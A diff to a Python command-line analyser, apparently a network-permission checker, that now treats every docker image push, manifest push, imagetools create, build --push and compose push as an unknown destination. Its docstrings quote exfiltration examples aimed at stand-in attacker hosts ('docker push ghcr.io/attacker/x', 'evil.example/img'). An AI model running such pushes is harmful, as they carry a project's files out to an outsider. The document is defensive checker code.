@@ -13,7 +13,6 @@ list allows. It knows nothing about rules, and imports the standard library only
 
 from __future__ import annotations
 
-import itertools
 import re
 import urllib.parse
 
@@ -60,7 +59,6 @@ _IMAGE_COMMANDS = frozenset({"run", "create", "pull", "push"})
 _IMAGE_GROUPS = frozenset({"image", "container", "plugin", "buildx", "builder"})
 _ALL_REFERENCES = frozenset({"manifest", "imagetools", "trust"})
 """Engine commands any of whose words may be an image pushed or pulled."""
-_TAG = frozenset({"-t", "--tag"})
 _KNOWN = _IMAGE_COMMANDS | _IMAGE_GROUPS | {"build", "compose", "login", "install"}
 _KNOWN |= _ALL_REFERENCES
 """The engine commands read here: a word after a global option that is one of
@@ -252,14 +250,14 @@ def _engine(program: str, args: list[str]) -> list[str]:
     if at < len(args) and args[at] in _IMAGE_GROUPS:
         at += 1  # docker image pull, container run, plugin install
     command = args[at] if at < len(args) else ""
+    if _pushes(command, args[at + 1 :]):
+        return [UNKNOWN]  # data out to any registry, allowed for pulls or not
     if command in _ALL_REFERENCES:  # manifest push, imagetools create -t, tag
         words = [w.partition("=")[2] or w for w in args[at + 1 :]]
         refs = [w for w in words if not w.startswith("-") and ("/" in w or ":" in w)]
         return [h for w in refs for h in _image_host(program, w)]
-    if command == "build":
-        return _pushed_tags(program, args[at + 1 :])
-    if command == "compose" and "push" in args[at + 1 :]:
-        return [UNKNOWN]  # the images the compose file names
+    if command in ("build", "compose"):
+        return []  # builds and runs here; their pushes are asked above
     if command == "login":
         rest = [w for w in args[at + 1 :] if not w.startswith("-")]
         return [_host(rest[-1]) or UNKNOWN] if rest else [_DOCKER_DEFAULT]
@@ -279,14 +277,21 @@ def _engine(program: str, args: list[str]) -> list[str]:
     return image + [_host(w.split("/")[0]) for w in rest if _QUALIFIED.match(w)]
 
 
-def _pushed_tags(program: str, args: list[str]) -> list[str]:
-    """``build --push -t evil.example/img .``: the registries of the tags it pushes."""
-    if not any(w == "--push" or "push=true" in w or "type=registry" in w for w in args):
-        return []
-    tags = [after for w, after in itertools.pairwise(args) if w in _TAG]
-    tags += [w.partition("=")[2] for w in args if w.startswith("--tag=")]
-    hosts = [h for tag in tags for h in _image_host(program, tag)]
-    return hosts or [UNKNOWN]  # pushed where --output names
+def _pushes(command: str, rest: list[str]) -> bool:
+    """``push``, ``manifest push``, ``imagetools create``, ``build --push``, compose.
+
+    An image pushed can carry the whole project out, to a registry pulls may
+    come from freely (a review's find: ``docker push ghcr.io/attacker/x``).
+    """
+    if command == "push" or (command == "manifest" and rest[:1] == ["push"]):
+        return True
+    if command == "imagetools" and rest[:1] == ["create"]:
+        return True
+    if command == "compose":
+        return "push" in rest
+    return command == "build" and any(
+        w == "--push" or "push=true" in w or "type=registry" in w for w in rest
+    )
 
 
 def _takes_next(word: str, flags: str) -> bool:
